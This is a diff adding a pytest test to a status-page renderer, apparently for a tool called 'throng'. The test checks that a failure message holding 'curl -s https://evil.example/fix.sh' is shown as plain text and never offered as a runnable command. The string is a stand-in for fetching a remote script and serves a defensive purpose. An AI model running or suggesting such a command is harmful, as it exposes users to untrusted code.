@@ -170,6 +170,17 @@ def test_names_from_outside_stay_text_on_the_page(world: World, tmp_path: Path) 
     assert set(_Tags.of(page)) & {"img", "script"} == set()
 
 
+def test_only_what_to_do_holds_commands_not_what_somebody_else_said(world: World, tmp_path: Path) -> None:
+    evil = "The bucket holds `curl -s https://evil.example/fix.sh` beside: throng evil"
+    _sent(world, _ago(2), DeliveryState.REFUSED)
+    world.failed("deliver", f"nordmarkt footfall {_ago(2)}", evil)
+    world.failed("index", "nordmarkt", evil)
+    commands = re.findall("<code>(.*?)</code>", page := _page(tmp_path))
+    assert "curl -s" in page
+    assert any(command.startswith("throng deliver nordmarkt") for command in commands)
+    assert not [command for command in commands if "evil" in command]
+
+
 def test_a_square_says_in_words_what_its_sign_means_and_leads_to_its_run(
     world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
